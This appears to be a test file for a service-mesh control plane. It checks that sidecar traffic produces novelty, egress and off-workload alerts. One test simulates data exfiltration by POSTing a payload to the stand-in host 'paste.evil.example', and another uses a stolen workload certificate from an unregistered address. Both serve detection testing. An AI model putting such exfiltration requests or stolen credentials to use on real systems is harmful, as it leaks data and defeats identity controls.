import t from 'tap';
import { request } from 'undici';
import {
  alertsUntil,
  clientCredentials,
  mtlsAgent,
  startEchoApp,
  startTestMesh,
  TESTER,
  untilReady,
} from '../helpers.ts';

const OPERATOR = 'spiffe://cluster.local/ns/postern-system/sa/operator';

t.test(
  'requests through a sidecar become usage reports, and the control plane alerts on them',
  async (t) => {
    // No learning, 1 s windows: a first caller is news within seconds.
    const mesh = await startTestMesh(
      t,
      `
apiVersion: postern.dev/v1alpha1
kind: RoutePolicy
metadata: { name: orders-api, namespace: shop }
spec:
  selector: { matchLabels: { app: orders } }
  routes:
    - name: get-order
      match: { methods: [GET], path: { template: "/orders/{id}" } }
      allow: [{ principals: ["${TESTER}"] }]
`,
      { controlPlane: { detectionLearningMs: 0 } },
    );
    const app = await startEchoApp(t);
    const sidecar = await mesh.startSidecar({
      workload: 'orders',
      namespace: 'shop',
      appPort: app.port,
      usageWindowSeconds: 1,
    });
    await untilReady(sidecar.adminPort);
    const tester = mtlsAgent(await clientCredentials(mesh.controlPlane.ca, TESTER));
    const operator = mtlsAgent(await clientCredentials(mesh.controlPlane.ca, OPERATOR));
    t.teardown(() => Promise.all([tester.close(), operator.close()]));
    for (const id of ['17', '18', '17']) {
      const response = await request(`https://127.0.0.1:${sidecar.inboundPort}/orders/${id}`, {
        dispatcher: tester,
      });
      await response.body.dump();
      t.equal(response.statusCode, 200);
    }

    let alerts = await alertsUntil(mesh.controlPlaneUrl, operator, (listed) => listed.length > 0);
    t.match(alerts, [
      {
        detector: 'novelty',
        principal: TESTER,
        workload: 'shop/orders',
        route: 'get-order',
      },
    ]);
    // The three requests may straddle a 1 s window: the first window alerts.
    const requests = alerts[0]!.evidence.requests as number;
    t.ok(requests >= 1 && requests <= 3, `${requests} request(s) in the alerting window`);
    t.ok((alerts[0]!.evidence.responseBytes as number) > 0, 'response bytes counted');

    // frontend's app tries a host outside the mesh: refused, recorded, and news.
    const frontend = await mesh.startSidecar({
      workload: 'frontend',
      namespace: 'shop',
      appPort: app.port,
      usageWindowSeconds: 1,
    });
    await untilReady(frontend.adminPort);
    const egress = await request(`http://127.0.0.1:${frontend.outboundPort}/upload`, {
      method: 'POST',
      headers: { host: 'Paste.Evil.Example' },
      body: 'x'.repeat(1000),
    });
    await egress.body.dump();
    t.equal(egress.statusCode, 502, 'egress outside the mesh is refused');
    alerts = await alertsUntil(mesh.controlPlaneUrl, operator, (listed) =>
      listed.some((alert) => alert.detector === 'egress'),
    );
    t.match(alerts[0], {
      detector: 'egress',
      principal: 'shop/frontend',
      destination: 'paste.evil.example:80',
      evidence: { newDestination: true, requests: 1, requestBytes: 1000 },
    });
  },
);

t.test(
  "frontend's identity presented from an address where no frontend pod runs is an off-workload alert",
  async (t) => {
    const FRONTEND = 'spiffe://cluster.local/ns/shop/sa/frontend';
    const mesh = await startTestMesh(
      t,
      `
apiVersion: postern.dev/v1alpha1
kind: RoutePolicy
metadata: { name: orders-api, namespace: shop }
spec:
  selector: { matchLabels: { app: orders } }
  routes:
    - name: list-orders
      match: { path: { exact: /orders } }
      allow: [{ principals: ["${FRONTEND}"] }]
`,
      { controlPlane: { detectionLearningMs: 0 } },
    );
    const app = await startEchoApp(t);
    const orders = await mesh.startSidecar({
      workload: 'orders',
      namespace: 'shop',
      appPort: app.port,
      usageWindowSeconds: 1,
    });
    // frontend's pod runs, and registers, on 127.0.0.1.
    const frontend = await mesh.startSidecar({
      workload: 'frontend',
      namespace: 'shop',
      appPort: app.port,
      usageWindowSeconds: 1,
    });
    await Promise.all([untilReady(orders.adminPort), untilReady(frontend.adminPort)]);
    // frontend's key, taken, and used from 127.0.0.2: loopback too, but no frontend pod is there.
    const stolen = mtlsAgent(await clientCredentials(mesh.controlPlane.ca, FRONTEND), {
      localAddress: '127.0.0.2',
    });
    const operator = mtlsAgent(await clientCredentials(mesh.controlPlane.ca, OPERATOR));
    t.teardown(() => Promise.all([stolen.close(), operator.close()]));
    const response = await request(`https://127.0.0.1:${orders.inboundPort}/orders`, {
      dispatcher: stolen,
    });
    await response.body.dump();
    t.equal(response.statusCode, 200, 'the certificate is valid: policy lets it in');

    const alerts = await alertsUntil(mesh.controlPlaneUrl, operator, (listed) =>
      listed.some((alert) => alert.detector === 'off-workload'),
    );
    t.match(
      alerts.find((alert) => alert.detector === 'off-workload'),
      {
        principal: FRONTEND,
        workload: 'shop/orders',
        route: 'list-orders',
        severity: 'high',
        evidence: { presentedFrom: ['127.0.0.2'], registeredAt: ['127.0.0.1'] },
      },
    );
  },
);
